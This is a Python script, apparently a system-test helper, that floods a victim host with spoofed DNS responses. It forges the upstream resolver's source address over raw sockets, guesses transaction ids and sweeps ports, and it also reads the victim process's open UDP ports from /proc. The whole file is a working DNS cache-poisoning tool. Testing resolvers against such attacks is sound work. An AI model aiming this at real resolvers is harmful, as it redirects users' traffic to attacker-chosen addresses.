"""A forger for tests/system/hostile, on the wire of the upstream: hostile.forger.py UPSTREAM VICTIM PID FIRST LAST NAME….

It sends what nobody asked for, in the upstream's name, until it is ended: answers to those names with guessed ids, one
to every port from FIRST to LAST in turn, and between them some to each port that process PID's machine has open to
the upstream just now, which no forger elsewhere would know. Once a second it says how many it has sent."""
import random
import socket
import struct
import sys
import time

UPSTREAM, VICTIM, PID, FIRST, LAST = *sys.argv[1:4], int(sys.argv[4]), int(sys.argv[5])
FORGED = socket.inet_aton("192.0.2.66")
SWEPT, KNOWN = 100, 25  # in turn


def answer(text):
    """All but the id."""
    wire = b"".join(bytes([len(l)]) + l.encode() for l in text.split(".")) + b"\0"
    return (struct.pack(">5H", 0x8180, 1, 1, 0, 0) + wire + struct.pack(">2H", 1, 1) + b"\xc0\x0c" +
            struct.pack(">HHIH", 1, 1, 60, 4) + FORGED)


def datagram(port, payload):
    """By IPv4 and UDP, from port 53 of the upstream; the kernel adds what is left out."""
    udp = struct.pack(">4H", 53, port, 8 + len(payload), 0) + payload
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
                       socket.inet_aton(UPSTREAM), socket.inet_aton(VICTIM)) + udp


def open_ports():
    server = "%08X:0035" % struct.unpack("=I", socket.inet_aton(UPSTREAM))
    with open(f"/proc/{PID}/net/udp") as f:
        return [int(line.split()[1].split(":")[1], 16) for line in f if line.split()[2] == server]


def main():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    answers = [answer(text) for text in sys.argv[6:]]
    told, sent, ident, sweep = time.monotonic(), {"swept": 0, "known": 0}, 0, FIRST

    def send(kind, port):
        nonlocal ident
        ident = (ident + 1) % 65536
        try:
            s.sendto(datagram(port, struct.pack(">H", ident) + random.choice(answers)), (VICTIM, 0))
            sent[kind] += 1
        except OSError:
            pass  # the cable is full

    while True:
        for port in open_ports():
            for _ in range(KNOWN):
                send("known", port)
        for _ in range(SWEPT):
            send("swept", sweep)
            sweep = sweep + 1 if sweep < LAST else FIRST
        if time.monotonic() - told > 1:
            told = time.monotonic()
            print(sent["swept"], sent["known"], flush=True)


main()
